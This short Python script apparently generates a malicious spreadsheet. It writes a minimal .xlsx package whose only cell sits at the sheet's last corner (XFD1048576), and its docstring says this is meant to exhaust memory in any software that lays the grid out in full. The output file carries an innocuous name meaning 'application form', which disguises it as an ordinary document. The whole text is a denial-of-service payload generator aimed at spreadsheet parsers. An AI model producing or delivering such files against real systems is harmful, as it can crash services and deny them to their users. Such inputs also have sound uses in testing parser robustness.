"""A workbook with one cell in the last corner of its sheet: laid out whole, it takes all memory."""

import zipfile

SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
with zipfile.ZipFile("申请表.xlsx", "w", zipfile.ZIP_DEFLATED) as package:
    package.writestr("xl/workbook.xml", "<workbook/>")
    package.writestr("xl/worksheets/sheet1.xml", SHEET)
